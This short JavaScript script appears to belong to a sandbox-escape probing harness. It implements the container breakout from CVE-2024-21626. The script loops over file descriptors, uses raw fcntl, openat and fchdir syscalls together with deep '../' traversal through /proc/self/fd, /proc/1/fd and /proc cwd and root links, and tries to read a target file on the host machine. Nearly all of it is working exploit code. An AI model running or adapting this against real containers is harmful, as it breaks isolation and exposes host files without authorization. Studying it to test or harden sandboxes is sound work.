// Whatever descriptor the runtime has left open, as a way up to the machine (CVE-2024-21626).
const { call, kernel, text } = require('./kernel.js');
const k = kernel();
const fs = require('node:fs');
const { file } = params.targets;
const up = '../'.repeat(30) + file.slice(1);
for (let fd = 0; fd < 256; fd++) {
  if (call(72, fd, 1, 0) < 0) continue;
  k.attempt(`what ${fd} is`, () => fs.readlinkSync(`/proc/self/fd/${fd}`).replace(/\d+/, 'N').slice(0, 12));
  const found = call(257, fd, text(up), 0, 0);
  if (found >= 0) k.reach(`the file by ${fd}`);
  for (const path of [`/proc/self/fd/${fd}/${up}`, `/proc/1/fd/${fd}/${up}`]) k.attempt(path.slice(0, 18), () => fs.readFileSync(path));
  if (call(81, fd) === 0) k.attempt('from there', () => fs.readFileSync(up));
}
let way = 0;
for (const path of ['self/cwd', '1/cwd', 'self/root', '1/root', 'thread-self/root']) k.attempt(`way ${way++}`, () => fs.readFileSync(`/proc/${path}/${up}`));
return k.done();
